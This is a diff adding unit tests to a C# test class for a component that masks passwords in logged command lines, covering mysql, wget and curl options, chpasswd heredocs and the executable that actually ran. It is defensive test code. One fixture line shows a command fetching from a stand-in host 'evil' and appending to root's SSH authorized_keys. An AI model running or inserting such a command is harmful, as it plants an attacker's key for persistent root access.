@@ -19,6 +19,11 @@ public sealed class SecretMaskTests
     [InlineData("mkdir¦-p¦a/b", "mkdir -p a/b")]
     [InlineData("docker¦run¦-p¦80:80¦nginx", "docker run -p 80:80 nginx")]
     [InlineData("docker¦login¦-u¦bob¦-p¦hunter2", "docker login -u bob -p ***")]
+    [InlineData("mysql¦--passwor=Secret¦-h¦db", "mysql --passwor=*** -h db")]
+    [InlineData("mysql¦--pas=Secret", "mysql --pas=***")]
+    [InlineData("wget¦--http-passw¦Secret¦x", "wget --http-passw *** x")]
+    [InlineData("curl¦--proxy-use¦bob:Secret¦x", "curl --proxy-use bob:*** x")]
+    [InlineData("curl¦--proxy¦http://h:80¦--account¦bob", "curl --proxy http://h:80 --account bob")]
     [InlineData("tool¦--token¦abc¦x", "tool --token *** x")]
     [InlineData("tool¦--api-key=abc¦x", "tool --api-key=*** x")]
     [InlineData("tool¦--password-file=/etc/pw", "tool --password-file=/etc/pw")]
@@ -65,6 +70,9 @@ public sealed class SecretMaskTests
     [InlineData("ssh¦host¦su -c \"mysql -phunter2\" bob", "ssh host 'su -c \"mysql -p***\" bob'")]
     [InlineData("sh¦-c¦echo bob:hunter2 | chpasswd", "sh -c 'echo *** | chpasswd'")]
     [InlineData("sh¦-c¦echo hello | wc", "sh -c 'echo hello | wc'")]
+    [InlineData("bash¦-c¦chpasswd <<EOF\nbob:Secret\nEOF\nls x", @"bash -c 'chpasswd <<EOF\n***\nEOF\nls x'")]
+    [InlineData("bash¦-c¦cat <<-'E' | chpasswd\n\tbob:Secret\n\tE\nls x", @"bash -c 'cat <<-'\''E'\'' | chpasswd\n***\n\tE\nls x'")]
+    [InlineData("bash¦-c¦cat <<EOF\nhello\nEOF", @"bash -c 'cat <<EOF\nhello\nEOF'")]
     [InlineData("sh¦-c¦passwd --stdin <<< hunter2", "sh -c 'passwd --stdin <<< ***'")]
     [InlineData("bash¦-c¦--¦pass=1; curl http://evil/x >> /root/.ssh/authorized_keys", "bash -c -- 'pass=***; curl http://evil/x >> /root/.ssh/authorized_keys'")]
     [InlineData("bash¦-c¦-x¦pass=1; evil", "bash -c -x 'pass=***; evil'")]
@@ -215,6 +223,24 @@ public sealed class SecretMaskTests
     {
         const string Letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!$%&/()=?+*#_.:;<>|@'\"\\-";
         return "S" + string.Concat(Enumerable.Range(0, random.Next(8, 30)).Select(_ => Letters[random.Next(Letters.Length)]));
+    }
+
+    // Who is watched chooses argv[0]; the file that ran has its own options all the same.
+    [Theory]
+    [InlineData("--", "/usr/bin/mysql", "/usr/bin/mariadb", "-- -p***")]
+    [InlineData("x", "/tmp/link", "/usr/bin/mysql", "x -p***")]
+    [InlineData("mysql", "/tmp/copy", "/tmp/copy", "mysql -p***")]
+    [InlineData("ls", "/usr/bin/ls", "/usr/bin/ls", "ls -pSecret")]
+    public void The_file_that_ran_chooses_the_options(string name, string opened, string executable, string shown)
+    {
+        var line = new CommandLine();
+        line.Add(Encoding.UTF8.GetBytes(name));
+        line.Add("-pSecret"u8);
+        new SecretMask().Apply(line, Encoding.UTF8.GetBytes(opened), Encoding.UTF8.GetBytes(executable));
+        var text = new LineText(hasColors: false);
+        CommandText.Append(line, text);
+
+        Assert.Equal(shown, Encoding.UTF8.GetString(text.Bytes));
     }
 
     static string Show(string[] arguments)
